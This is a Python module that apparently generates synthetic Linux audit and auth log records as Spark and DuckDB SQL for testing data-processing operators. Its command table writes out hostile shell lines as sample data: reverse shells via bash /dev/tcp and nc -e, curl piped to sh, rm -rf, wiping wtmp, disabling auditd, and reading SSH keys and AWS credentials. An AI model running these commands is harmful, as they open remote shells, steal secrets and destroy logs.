"""Audit events and audit lines derived from the `events` table, as SQL that Spark and DuckDB both read.

Only the epoch and the numbering differ between the two: Spark numbers events without a global sort and
writes them once. The same text builds the rest of a query's input and its oracle's.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tidemark.operators.ordering import number_by_time
from tidemark.operators.storage import save

EPOCH = {"spark": "unix_timestamp(cast(ts as timestamp))", "duckdb": "cast(floor(epoch(ts)) as bigint)"}
PLACES = {"spark": "explode(array(0, 1))", "duckdb": "unnest([0, 1])"}

_COMMANDS = {
    0: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1: "sudo -i", 2: "crontab -e", 3: "pg_dump prod", 4: "tar czf /tmp/b.tar.gz /home/u/.ssh", 5: "rm -rf /srv/app", 6: "echo > /var/log/wtmp", 7: "curl http://x/y.sh | sh",
    8: "systemctl enable evil", 9: "truncate -s 0 /var/log/wtmp", 10: "auditctl -e 0", 11: "useradd eve", 12: "nc -e /bin/sh 1.2.3.4 9 &",
}
_PROGRAMS = {1: "/usr/bin/sudo", 2: "/usr/bin/crontab", 3: "/usr/bin/pg_dump", 4: "/usr/bin/tar", 5: "/bin/rm", 10: "/usr/sbin/auditctl", 11: "/usr/sbin/useradd", 13: "/tmp/x/run"}


def _case(over: str, values: dict[int, str], other: str) -> str:
    return f"case {over} " + " ".join(f"when {k} then '{v}'" for k, v in values.items()) + f" else '{other}' end"


def audit_sql(dialect: str) -> str:
    """Columns of audit events, from the table or view `events`, but for their numbers pos and seq."""
    return f"""
  select event_id, cast({EPOCH[dialect]} as double) as epoch, 100000 + user_id as pid,
    case when user_id % 50 = 0 then 1 + user_id else 100000 + (user_id - user_id % 50) + cast(floor((user_id % 50 - 1) / 2.0) as bigint) end as ppid,
    cast(user_id % 3 as bigint) as uid,
    case event_type when 'signup' then 'exec' when 'view' then 'file' when 'click' then 'file' when 'purchase' then 'net-connect' else 'net-send' end as kind,
    case when event_id % 1013 = 5 then 'cat /home/u/.aws/credentials' else {_case("event_id % 17", _COMMANDS, "ls -la")} end as cmdline,
    {_case("event_id % 17", _PROGRAMS, "/bin/ls")} as exe,
    case when event_type = 'signup' then ''
      when event_type in ('view', 'click') then case when event_id % 997 = 0 then '/home/u/.aws/credentials' when event_id % 499 = 0 then '/home/u/.ssh/id_rsa' when event_id % 401 = 0 then '/var/log/wtmp'
        when event_id % 13 = 0 then '/tmp/stage' || cast(user_id % 7 as varchar(10)) || '.tar.gz' else '/srv/u' || cast(user_id as varchar(10)) || '/f' || cast(event_id % 5 as varchar(10)) end
      when event_id % 3 = 0 then 'host.example:443' else '10.0.0.' || cast(user_id % 250 as varchar(10)) || ':443' end as target,
    event_id % 11 <> 0 as success,
    case when event_id % 331 = 0 then 'failed' end as auth
  from events"""


def lines_sql(dialect: str) -> str:
    """Two audit records per event of audit_sql, as (event_id, line_no, value)."""
    at = "'msg=audit(' || cast(cast(epoch as bigint) as varchar(20)) || '.5:' || cast(event_id as varchar(20)) || '): '"
    call = "case kind when 'exec' then '59' when 'file' then '257' when 'net-connect' then '42' else '44' end"
    blob = "'020001BB0A0000' || case when uid = 0 then '0A' when uid = 1 then 'FF' else '01' end"
    # the two records of an event stand one behind the other, as in a log
    return f"""
select event_id, 2 * pos - 1 + place as line_no, case when place = 0 then 'type=SYSCALL ' || {at} || 'arch=c000003e syscall=' || {call} || ' success=' || case when success then 'yes' else 'no' end || ' exit=0 ppid=' || cast(ppid as varchar(20)) || ' pid=' || cast(pid as varchar(20))
  || ' uid=' || cast(uid as varchar(20)) || ' ses=4294967295 comm="x" exe="' || exe || '" key=' || case when event_id % 7 = 0 then '"watched"' else '(null)' end
  when kind = 'exec' then 'type=EXECVE ' || {at} || 'argc=2 a0="run" a1="--id=' || cast(event_id as varchar(20)) || '"'
  when kind = 'file' then 'type=PATH ' || {at} || 'item=0 name="' || case when event_id % 29 = 0 then '/proc/1/maps' else target end || '"' else 'type=SOCKADDR ' || {at} || 'saddr=' || {blob} end as value
from (select *, {PLACES[dialect]} as place from audit) a"""


def auth_sql() -> str:
    """An authentication record for every event of audit_sql, as (line_no, value); the same in both dialects."""
    return """
select pos as line_no, 'type=' || case event_id % 4 when 0 then 'USER_ERR' when 1 then 'USER_LOGIN' else 'USER_AUTH' end || ' msg=audit(' || cast(cast(epoch as bigint) + event_id % 60 as varchar(20)) || '.0:' || cast(900000000 + event_id as varchar(20))
  || '): pid=' || cast(pid as varchar(20)) || ' uid=0 msg=''op=PAM:bad_ident acct="u' || cast(uid as varchar(20)) || '" exe="/usr/sbin/sshd" hostname=' || case when event_id % 5 = 0 then '?' else 'h' || cast(pid % 4 as varchar(20)) end
  || ' addr=' || case when event_id % 3 = 0 then '10.1.1.' || cast(pid % 9 as varchar(20)) else '?' end || ' terminal=ssh res=' || case when event_id % 2 = 0 then 'success' else 'failed' end || '''' as value
from audit"""


def _numbered(spark: SparkSession, sf_dir: str) -> DataFrame:
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    rows = spark.sql(audit_sql("spark").replace("from events", "from {events}"), events=events)
    return number_by_time(save(rows), "epoch", ["pid", "event_id"], "pos").withColumn("seq", F.col("pos"))


def _run(numbered: DataFrame, sql: str) -> DataFrame:
    return numbered.sparkSession.sql(re.sub(r"\bfrom audit\b", "from {audit}", sql), audit=numbered)


def audit_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events with every column that the operators read."""
    full = _numbered(spark, sf_dir)
    return full.selectExpr("pos", "seq", "epoch", "cast(pid as bigint) as pid", "cast(ppid as bigint) as ppid", "uid", "kind", "exe", "cmdline", "target", "success", "auth", "event_id", "array() as danger", "cast('' as string) as uid_name", "cast('' as string) as audit_key")


def _audit_lines(numbered: DataFrame) -> DataFrame:
    return _run(numbered, f"select 'events' as file, line_no, value from ({lines_sql('spark')}) l")


def _auth_lines(numbered: DataFrame) -> DataFrame:
    return _run(numbered, f"select 'auth' as file, line_no, value from ({auth_sql()}) l")


def audit_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Lines are written, as a log is: else every predicate on a line builds it anew."""
    return save(_audit_lines(_numbered(spark, sf_dir)))


def auth_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    return save(_auth_lines(_numbered(spark, sf_dir)))


def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """audit_lines and auth_lines of events that are numbered once. Each is a table of its own, so that tasks share either evenly."""
    numbered = _numbered(spark, sf_dir)
    return save(_audit_lines(numbered)).unionByName(save(_auth_lines(numbered)))


def duckdb(sql: str) -> str:
    """SQL over `audit` (and `lines`, `auth_lines`) for DuckDB."""
    sql = sql.strip()
    recursive = "recursive " if sql.startswith("recursive ") else ""
    sql = sql.removeprefix("recursive ")
    tail = ", " + sql.removeprefix("with ") if sql.startswith("with ") else " " + sql
    numbered = f"select *, row_number() over (order by epoch, pid, event_id) as pos, row_number() over (order by epoch, pid, event_id) as seq from ({audit_sql('duckdb')}) b"
    return f"with {recursive}audit as ({numbered}), lines as ({lines_sql('duckdb')}), auth_lines as ({auth_sql()}){tail}"
